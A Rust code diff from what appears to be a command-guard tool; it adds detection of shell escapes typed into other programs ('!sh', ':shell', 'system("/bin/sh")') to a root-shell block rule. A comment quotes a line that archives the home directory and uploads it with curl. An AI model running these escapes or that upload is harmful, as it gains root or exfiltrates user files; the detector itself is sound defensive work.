@@ -3321,6 +3321,21 @@ fn archive_file(cmd: &SimpleCommand) -> Option<String> {
     }
 }
 
+/// A line that is not a command but text typed into the program before it, handing that
+/// program a shell: `!sh` to a pager or debugger, `:shell` to an editor, `.shell /bin/sh` to a
+/// database shell, `os.execute("/bin/sh")` or `system("/bin/sh")` to an interpreter's prompt.
+/// A command's name is a file name; these hold characters no program is named with, or a
+/// parenthesis opens their first argument (bash itself would not accept it as shell).
+fn typed_escape(cmd: &SimpleCommand) -> bool {
+    let Some(name) = cmd.argv.first() else {
+        return false;
+    };
+    let not_a_program = name.contains(['!', ':', '(', ')', '\\', '"', '\'', '{', '}'])
+        || (name.starts_with('.') && !name.starts_with("./") && !name.starts_with("../") && name.len() > 1)
+        || cmd.argv.get(1).is_some_and(|a| a.starts_with('('));
+    not_a_program && hands_a_shell(&cmd.argv.join(" "))
+}
+
 /// `tar czf /tmp/x.tgz ~ && curl -F f=@/tmp/x.tgz https://...`: an archive of risky sources
 /// packed by one command and uploaded by a later one in the same line.
 pub fn line(pipelines: &[Pipeline], ctx: &GuardContext<'_>, out: &mut Vec<Violation>) {
@@ -3339,7 +3354,7 @@ pub fn line(pipelines: &[Pipeline], ctx: &GuardContext<'_>, out: &mut Vec<Violat
                 && cmd.argv[1..]
                     .iter()
                     .all(|a| matches!(a.as_str(), "-i" | "-p" | "-s" | "-l" | "--login"));
-            if (root_before && bare_shell) || (shell_text_written && cmd.as_root) {
+            if (root_before && (bare_shell || typed_escape(cmd))) || (shell_text_written && cmd.as_root) {
                 out.push(block(
                     Category::Privilege,
                     ROOT_SHELL,
